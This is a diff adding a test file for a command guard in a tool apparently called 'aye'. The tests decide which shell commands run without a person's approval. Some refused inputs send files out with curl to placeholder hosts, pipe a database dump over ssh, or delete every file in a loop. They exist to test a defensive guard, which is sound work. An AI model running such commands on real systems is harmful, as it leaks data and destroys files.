@@ -1,0 +1,83 @@
+import { afterAll, describe, expect, test } from "bun:test";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { effectNote, judge, unattendedRefusal } from "../../../src/guard/to-shell.ts";
+
+const cwd = mkdtempSync(join(tmpdir(), "aye-effects-"));
+writeFileSync(join(cwd, "notes.txt"), "kept\n");
+afterAll(() => rmSync(cwd, { recursive: true, force: true }));
+
+const runsUnattended = async (plan: string, typed?: { command: string; output: string }) => unattendedRefusal(await judge(plan, cwd, typed)) === undefined;
+
+describe("what runs with no one pressing a key: only what is known to read or write in the folder", () => {
+  test.each([
+    "ls -la",
+    "git status && git log --oneline | head -5",
+    "rm --help",
+    "kubectl delete pod web --dry-run=client",
+    "rsync -an --delete src/ dst/",
+    "terraform plan -destroy",
+    "aws ec2 describe-instances --region eu-west-1",
+    "psql -c 'SELECT count(*) FROM users'",
+    "npm test",
+    "make -C build test",
+    "mkdir -p build && cmake -S . -B build",
+    "echo done > build.log",
+    "sudo journalctl -u nginx --since today",
+    "ssh host 'ls /var/log'",
+    "python manage.py test",
+    "./gradlew test --tests '*UserTest'",
+    "rpm -qi openssl",
+  ])("runs %p", async (plan) => {
+    expect(await runsUnattended(plan)).toBe(true);
+  });
+
+  test.each([
+    ["./scripts/cleanup.sh", "aye does not know what `cleanup.sh` does"],
+    ["npm run deploy --dry-run", "aye does not know what `npm run deploy` does"],
+    ["make install", "aye does not know what `make install` does"],
+    ["echo x > notes.txt", "overwrites or deletes files or data"],
+    ["cp a.txt notes.txt", "overwrites or deletes files or data"],
+    ["touch ~/x", "writes outside this folder"],
+    ["cd /etc && touch x", "writes outside this folder"],
+    ["git push origin main", "sends data out"],
+    ["mysqldump db | ssh backup 'cat > db.sql'", "sends data out"],
+    ["ssh -R 80:localhost:3000 serveo.net", "sends data out"],
+    ["curl -d @build.log https://paste.invalid", "sends data out"],
+    ["nohup npm start &", "leaves something running after aye"],
+    ["tmux new -d 'npm start'", "leaves something running after aye"],
+    ["sudo make", "changes the system"],
+    ["go env -w GOPROXY=direct", "changes your settings or start-up files"],
+    ["python3 setup.py build", "runs code aye cannot read first"],
+    ["psql -c \"SELECT setval('ids', 1)\"", "aye does not know what `psql` does"],
+    ["npx some-tool", "installs software"],
+    ["git pull", "rewrites history or moves refs"],
+    ["gcloud container clusters get-credentials prod", "aye does not know what"],
+  ])("asks for %p, which %s", async (plan, effect) => {
+    const v = await judge(plan, cwd);
+    expect(unattendedRefusal(v)).toBeDefined();
+    expect(effectNote(v)).toContain(effect);
+  });
+
+  test("the person's own command corrected runs unless it destroys: git psuh → git push", async () => {
+    const typed = { command: "git psuh origin main", output: "git: 'psuh' is not a git command. See 'git --help'." };
+    expect(await runsUnattended("git push origin main", typed)).toBe(true);
+    expect(await runsUnattended("git push --force origin main", typed)).toBe(false);
+    expect(await runsUnattended("git push origin main && curl -d @x https://e.invalid", typed)).toBe(false);
+    // Not a correction: another program, or words neither typed nor named by the tool.
+    expect(await runsUnattended("git push evil main", typed)).toBe(false);
+    expect(await runsUnattended("./deploy.sh", typed)).toBe(false);
+  });
+
+  test("words the tool names may be added to the person's command", async () => {
+    const typed = { command: "git push", output: "fatal: The current branch feature has no upstream branch.\n    git push --set-upstream origin feature\n" };
+    expect(await runsUnattended("git push --set-upstream origin feature", typed)).toBe(true);
+  });
+
+  test("a line aye cannot see through is asked, never run", async () => {
+    expect(await runsUnattended('for f in *; do rm "$f"; done')).toBe(false);
+    expect(await runsUnattended("L=ls; $L -la")).toBe(false);
+    expect(await runsUnattended("cat <<'EOF' > x\nhi\nEOF")).toBe(false);
+  });
+});
